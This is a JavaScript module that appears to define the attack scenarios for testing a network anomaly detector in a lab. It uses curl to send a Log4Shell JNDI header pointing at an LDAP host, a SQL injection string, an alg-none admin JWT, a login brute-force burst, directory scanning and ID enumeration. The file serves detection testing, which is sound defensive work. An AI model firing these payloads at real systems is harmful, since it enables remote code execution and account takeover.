// The attacks of the detection scenario, each made with real tools (curl) from
// a lab host, and the anomaly kind it must raise.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

const WEB = 'https://198.18.10.1:8443';

/** curl with many URLs in one process (one keep-alive connection). */
function curlMany(urls, extra = []) {
  const config = urls.map((u) => `url = "${u}"\noutput = "/dev/null"`).join('\n');
  return ['sh', ['-c', `printf '%s\\n' "$0" | curl -sk -K - ${extra.map((a) => `'${a.replace(/'/g, "'\\''")}'`).join(' ')}`, config]];
}

function words(wordlist, count) {
  try {
    return readFileSync(wordlist, 'utf8').split('\n').map((w) => w.trim()).filter((w) => /^[\w.-]+$/.test(w)).slice(0, count);
  } catch {
    return Array.from({ length: count }, (_, i) => `probe${i}.php`);
  }
}

/**
 * @typedef {object} Attack
 * @property {string} kind        the AnomalyKind it must raise
 * @property {string} what        one line for the report
 * @property {(ctx: AttackContext) => Promise<void>} run
 *
 * @typedef {object} AttackContext
 * @property {import('./lab.mjs').Lab} lab
 * @property {(mode: string) => void} setApiMode
 * @property {string} dir
 */

/** @type {Attack[]} */
export const attacks = [
  {
    kind: 'NEW_EDGE', what: 'attacker calls the api directly',
    run: async ({ lab }) => void (await lab.run('attacker', 'curl', ['-s', '-o', '/dev/null', 'http://198.18.10.2:8080/health'])),
  },
  {
    kind: 'NEW_ENDPOINT', what: 'frontend calls an api endpoint it never used',
    run: async ({ lab }) => void (await lab.run('frontend', 'curl', ['-sk', '-o', '/dev/null', `${WEB}/api/health`])),
  },
  {
    kind: 'PLAINTEXT', what: 'frontend sends plaintext HTTP to the TLS port',
    run: async ({ lab }) => void (await lab.run('frontend', 'curl', ['-s', '-o', '/dev/null', 'http://198.18.10.1:8443/api/users/1'])),
  },
  {
    kind: 'NEW_PROTOCOL', what: 'frontend speaks HTTP/1 to the gRPC port',
    run: async ({ lab }) => void (await lab.run('frontend', 'curl', ['-s', '-m', '3', '-o', '/dev/null', 'http://198.18.10.3:50051/inventory.Inventory/Check'])),
  },
  {
    kind: 'INJECTION', what: 'SQL injection and a Log4Shell header',
    run: async ({ lab }) => void (await lab.run('frontend', 'curl', ['-sk', '-o', '/dev/null', '-H', 'X-Api-Version: ${jndi:ldap://198.18.10.9:1389/a}',
      `${WEB}/api/users/1?q=1%27%20OR%20%271%27%3D%271%27--`])),
  },
  {
    kind: 'JWT_WEAKNESS', what: 'a bearer JWT with alg none',
    run: async ({ lab }) => void (await lab.run('frontend', 'curl', ['-sk', '-o', '/dev/null', '-H',
      'Authorization: Bearer eyJhbGciOiJub25lIiwidHlwIjoiSldUIn0.eyJzdWIiOiJhbGljZSIsInJvbGUiOiJhZG1pbiJ9.', `${WEB}/api/users/2`])),
  },
  {
    kind: 'SENSITIVE_DATA', what: 'the api starts returning card numbers',
    run: async ({ lab, setApiMode }) => {
      setApiMode('leak');
      await lab.run('frontend', ...curlMany(Array.from({ length: 5 }, (_, i) => `${WEB}/api/users/${i + 1}`)));
      setApiMode('normal');
    },
  },
  {
    kind: 'LARGE_TRANSFER', what: 'an orders response 500 times its usual size',
    run: async ({ lab, setApiMode }) => {
      setApiMode('large');
      await lab.run('frontend', 'curl', ['-sk', '-o', '/dev/null', `${WEB}/api/orders?limit=10`]);
      setApiMode('normal');
    },
  },
  {
    kind: 'AUTH_FAILURE_BURST', what: '80 failed logins in a burst',
    run: async ({ lab }) => void (await lab.run('frontend', ...curlMany(Array.from({ length: 80 }, () => `${WEB}/api/login`),
      ['-X', 'POST', '-H', `Authorization: Basic ${Buffer.from('alice:guess').toString('base64')}`]))),
  },
  {
    kind: 'SCAN', what: 'attacker probes 150 paths from a word list',
    run: async ({ lab }) => void (await lab.run('attacker', ...curlMany(words('/usr/share/dirb/wordlists/common.txt', 150).map((w) => `${WEB}/${w}`)))),
  },
  {
    kind: 'ENUMERATION', what: 'frontend walks user ids 1 to 120',
    run: async ({ lab }) => void (await lab.run('frontend', ...curlMany(Array.from({ length: 120 }, (_, i) => `${WEB}/api/users/${i + 1}`)))),
  },
  {
    kind: 'RATE_SPIKE', what: '600 order calls in a few seconds',
    run: async ({ lab }) => void (await lab.run('frontend', ...curlMany(Array.from({ length: 600 }, () => `${WEB}/api/orders?limit=5`)))),
  },
  {
    kind: 'ERROR_SPIKE', what: 'the api answers 503 for 15 s',
    run: async ({ setApiMode, until }) => {
      setApiMode('errors');
      await until(15_000);
      setApiMode('normal');
    },
  },
  {
    kind: 'LATENCY_SPIKE', what: 'the api answers 400 ms late for 15 s',
    run: async ({ setApiMode, until }) => {
      setApiMode('slow');
      await until(15_000);
      setApiMode('normal');
    },
  },
];

export function apiModeSetter(dir) {
  const file = join(dir, 'api.mode');
  writeFileSync(file, 'normal');
  return { file, set: (mode) => writeFileSync(file, mode) };
}
